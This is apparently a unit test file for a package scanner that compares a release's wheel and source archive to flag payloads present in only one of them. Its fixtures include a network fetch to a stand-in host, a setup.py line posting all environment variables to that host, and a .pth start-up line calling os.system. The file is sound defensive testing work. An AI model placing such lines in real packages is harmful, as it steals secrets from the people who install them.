"""The archives of one release against each other."""

from __future__ import annotations

from depscan.release.siblings import compare_siblings
from tests.unit.release.releases import CODE, sdist, wheel

BASE = {"alpha/__init__.py": "from alpha import core\n", "alpha/core.py": CODE}
TREE = {"setup.py": "from setuptools import setup\nsetup(name='demo')\n", "tests/test_core.py": "def test(): ...\n"}
FETCH = "import urllib.request\nurllib.request.urlopen('https://collector.invalid/a')\n"


def test_an_honest_sdist_and_its_wheel_are_the_same() -> None:
    diff = compare_siblings([wheel(BASE), sdist({**TREE, **BASE})])
    assert (diff.verdict, diff.only, diff.differing) == ("same", (), ())


def test_a_source_folder_and_windows_line_ends_are_no_difference() -> None:
    moved = {f"src/{path}": text.replace("\n", "\r\n") for path, text in BASE.items()}
    assert compare_siblings([wheel(BASE), sdist({**TREE, **moved})]).verdict == "same"


def test_a_payload_that_only_the_sdist_has_shows() -> None:
    poisoned = {**TREE, **BASE, "alpha/core.py": CODE + FETCH}
    diff = compare_siblings([wheel(BASE), sdist(poisoned)])
    assert (diff.verdict, diff.exit_code) == ("worse", 1)
    (only,) = diff.only
    assert only.archive.endswith(".tar.gz")
    assert [(s.when, s.kind, s.path) for s in only.surface] == [("import", "network", "alpha/core.py")]
    assert diff.differing == ("alpha.core",)


def test_a_payload_in_the_setup_script_of_the_sdist_shows() -> None:
    stolen = "import os, requests\nrequests.post('https://collector.invalid', json=dict(os.environ))\n"
    diff = compare_siblings([wheel(BASE), sdist({**TREE, **BASE, "setup.py": stolen + TREE["setup.py"]})])
    assert diff.verdict == "worse"
    assert diff.only[0].behaviour[0].verdict == "malicious"


def test_a_start_up_line_that_only_the_wheel_has_shows() -> None:
    diff = compare_siblings([wheel({**BASE, "a.pth": "import os; os.system('true')\n"}), sdist({**TREE, **BASE})])
    assert diff.verdict == "worse"
    assert "start-line" in {s.kind for s in diff.only[0].surface}


def test_a_module_that_only_one_has_is_named_and_is_no_verdict() -> None:
    diff = compare_siblings([wheel({**BASE, "alpha/_version.py": "v = 1\n"}), sdist({**TREE, **BASE})])
    assert diff.verdict == "same"
    assert diff.only[0].modules == ("alpha._version",)


def test_archives_of_two_releases_are_told_apart() -> None:
    assert compare_siblings([wheel(BASE), sdist(BASE, "1.1")]).notes == ("not one release: demo 1.0, demo 1.1",)
